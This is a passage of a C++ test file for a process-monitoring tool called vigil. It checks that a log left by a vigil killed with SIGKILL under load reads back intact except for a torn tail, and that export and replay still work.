  EXPECT_EQ(damaged.err.find(" 0 damaged record"), std::string::npos)
      << "the damaged block's records are counted as skipped: " << damaged.err;
  ProcResult verify = run({vigil_bin(), "log", "verify", log});
  EXPECT_EQ(verify.status, 1) << verify.out << verify.err;
}

} // namespace
} // namespace vigil::test

namespace vigil::test {
namespace {

// A recording vigil killed with SIGKILL under load: every complete record reads back; the only
// damage is the torn tail of the segment it was writing.
TEST(EventLogKill, sigkilled_vigil_leaves_a_log_whose_complete_records_all_read_back)
{
  VG_REQUIRE_ROOT();
  TempDir tmp;
  const std::string log = tmp / "log";
  Proc vigil({vigil_bin(), "run", "--log-dir", log, "--", "sh", "-c",
              "while :; do cat /etc/hostname /etc/os-release >/dev/null; done"});
  ASSERT_TRUE(vigil.wait_for_err("confines cgroup")) << vigil.err_so_far();
  std::this_thread::sleep_for(std::chrono::milliseconds(2500));
  vigil.signal(SIGKILL);
  vigil.wait();
  // vigil run could not remove its cgroup: its agent died with it (PR_SET_PDEATHSIG).
  const std::string cg = cgroup2_mount() + "/vigil/run-" + std::to_string(vigil.pid());
  for (int i = 0; i < 50 && fs::exists(cg); ++i) {
    std::error_code ec;
    fs::remove(cg, ec);
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }

  ProcResult verify = run({vigil_bin(), "log", "verify", log});
  const std::string report = verify.out + verify.err;
  std::istringstream lines(report);
  size_t problems = 0;
  for (std::string line; std::getline(lines, line);) {
    if (line.find("seg-") != 0)
      continue;
    ++problems;
    EXPECT_NE(line.find("torn"), std::string::npos) << "only the tail may be damaged: " << line;
  }
  EXPECT_LE(problems, 1u) << report;

  ProcResult exported = run({vigil_bin(), "log", "export", log, "--format", "json"});
  EXPECT_EQ(exported.status, 0) << exported.err;
  size_t events = 0, opens = 0, execs = 0;
  std::istringstream records(exported.out);
  for (std::string line; std::getline(records, line);) {
    auto j = nlohmann::json::parse(line);
    if (j["record"] == "event") {
      ++events;
      opens += j["type"] == "open" && j.value("path", "") == "/etc/hostname" ? 1 : 0;
      execs += j["type"] == "exec" && j.value("exe", "") == "/usr/bin/cat" ? 1 : 0;
    }
  }
  EXPECT_GT(events, 1000u) << "under load for 2.5 s";
  EXPECT_GT(execs, 100u);
  // The open is reported where it is decided: tier 2 the agent's first open of the file (the
  // kernel allows it from then on), tier 1 each cat's first open of it.
  EXPECT_GE(opens, expected_file_tier() == "lsm" ? 100u : 1u);
  ProcResult replay = run({vigil_bin(), "replay", log, "--format", "json"});
  EXPECT_EQ(replay.status, 0) << replay.err;
}

} // namespace
} // namespace vigil::test
